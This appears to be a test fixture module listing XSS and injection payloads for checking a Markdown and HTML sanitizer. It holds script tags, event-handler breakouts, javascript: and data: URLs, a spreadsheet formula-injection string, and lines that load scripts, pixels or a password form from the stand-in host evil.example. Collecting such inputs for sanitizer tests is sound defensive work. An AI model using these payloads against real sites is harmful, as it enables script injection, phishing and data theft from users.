const ways = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\nscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
];
const more = [
  "vbscript:x",
  "file:///etc/passwd",
  "blob:https://a/b",
  "&#106;avascript:alert(1)",
  "javascript&colon;alert(1)",
];
const more2 = [
  "\u0001javascript:alert(1)",
  "//evil.example/x",
  'https://a.example/"onmouseover=alert(1)',
  "feed:javascript:x",
];

/** What breaks out of an attribute or an element where words of a person are put into one. */
export const hostileNames = [
  `"><img src=x onerror=alert(1)>`,
  "'><svg onload=alert(1)>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<!--<script>alert(1)</script>-->",
  "{{alert(1)}} <%= 1 %>",
  "javascript:alert(1)",
  "[x](javascript:alert(1)) ![x](https://evil.example/p.png)",
  "Ana\u202Enafets\u2066 \u200Bzero",
  "=cmd|'/c calc'!A1",
];

const elements = [
  ...["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee"],
  ...["select autofocus", "iframe", "object data=x", "style", "math", "a href=#", "button", "animate", "set", "x"],
];
const events = [
  ...["onerror", "onload", "onfocus", "ontoggle", "onstart", "onbegin", "onanimationstart", "onpointerrawupdate"],
  "onmouseover",
];

/** Attacks in posts, as Markdown. */
export const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext></table><style><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=evil.swf></object><embed src=evil.swf>",
  "<form action=//evil.example><input name=password><button>Go</button></form>",
  "<a href=javascript:alert(1)>x</a>",
  "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>x</div>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<p id=main class=site-header>x</p>",
  "<details open ontoggle=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "![x](https://evil.example/pixel.png)",
  "![x](javascript:alert(1))",
  "![](data:image/svg+xml,<svg onload=alert(1)>)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "![x][r]\n\n[r]: https://evil.example/pixel.png",
  "<javascript:alert(1)>",
  "[x](<javascript:alert(1)>)",
  "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  '~~~"><script>alert(1)</script>\nx\n~~~',
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | b |",
  "# <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "- <svg onload=alert(1)>",
  "`</code><script>alert(1)</script>`",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)\\</script>",
  "{{constructor.constructor('alert(1)')()}} <%= 1 %>",
  "import x from 'y'\n\nexport const a = {alert(1)}\n\n<Component onClick={alert(1)} />",
  ...[...ways, ...more, ...more2].flatMap((way) => [`[x](${way})`, `[x](<${way}>)`, `<${way}>`, `[x]: ${way}\n\n[x]`]),
  ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=alert(1)>`)),
];
